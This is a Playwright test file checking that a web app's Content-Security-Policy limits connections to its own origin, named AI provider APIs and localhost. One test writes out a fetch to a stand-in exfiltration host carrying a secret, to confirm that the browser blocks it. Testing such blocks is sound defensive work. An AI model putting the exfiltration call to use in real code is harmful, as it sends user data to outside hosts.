// The built page's Content-Security-Policy: a fetch from the page to a host that is not on its list is refused by
// the browser (a securitypolicyviolation and a TypeError), one to a local server is allowed, and the app itself
// (sandbox frame, worker, editors, a tool run) works under the policy without a single violation.
import { expect, test, type Page } from '@playwright/test';
import { startNetTestServer, type NetTestServer } from '../support/net-test-server.ts';
import { openApp, selectTool } from './support.ts';

let server: NetTestServer;
test.beforeAll(async () => { server = await startNetTestServer(); });
test.afterAll(async () => { await server.close(); });

/** Violations the page reports, collected from the first script on. */
function recordViolations(page: Page) {
  return page.addInitScript(() => {
    const seen: { directive: string; blocked: string }[] = [];
    (window as unknown as { cspViolations: typeof seen }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
  });
}
const violations = (page: Page) => page.evaluate(() => (window as unknown as { cspViolations: { directive: string; blocked: string }[] }).cspViolations);

test('the page names its own origin, the provider hosts and local addresses as the only places to connect to', async ({ page }) => {
  await openApp(page);
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const connect = policy?.split(';').map((d) => d.trim()).find((d) => d.startsWith('connect-src '))?.split(' ').slice(1);
  expect(connect).toEqual(expect.arrayContaining([
    "'self'", 'https://api.openai.com', 'https://api.anthropic.com', 'https://generativelanguage.googleapis.com',
    'https://api.mistral.ai', 'https://openrouter.ai', 'http://localhost:*', 'http://127.0.0.1:*',
  ]));
  expect(connect).not.toContain('*');
});

test('a fetch from the page to a host not on the list is refused; one to a local server is allowed', async ({ page }) => {
  await recordViolations(page);
  await openApp(page);
  const refused = await page.evaluate(() => fetch('https://exfiltration.example/collect?secret=1').then(() => 'sent', (e: Error) => `${e.name}: ${e.message}`));
  expect(refused).toBe('TypeError: Failed to fetch');
  await expect.poll(() => violations(page)).toContainEqual({ directive: 'connect-src', blocked: 'https://exfiltration.example/collect?secret=1' });

  const local = await page.evaluate((origin) => fetch(`${origin}/from-the-page`).then((r) => r.text()), server.origin);
  expect(local).toBe('pong');
  expect(server.hits()).toContain('/from-the-page');
});

test('the app runs under the policy: the sandbox starts, a tool runs, nothing is refused', async ({ page }) => {
  await recordViolations(page);
  await openApp(page);
  await selectTool(page, 'calculate');
  await page.getByTestId('try-it-toggle').click();
  await page.getByTestId('try-it-args').fill('{ "expression": "6 * 7" }');
  await page.getByTestId('try-it-run').click();
  await expect(page.getByTestId('try-it-text')).toHaveText('6 * 7 = 42');
  await page.getByTestId('view-tab-providers').click();
  await page.getByTestId('view-tab-files').click();
  expect(await violations(page)).toEqual([]);
});
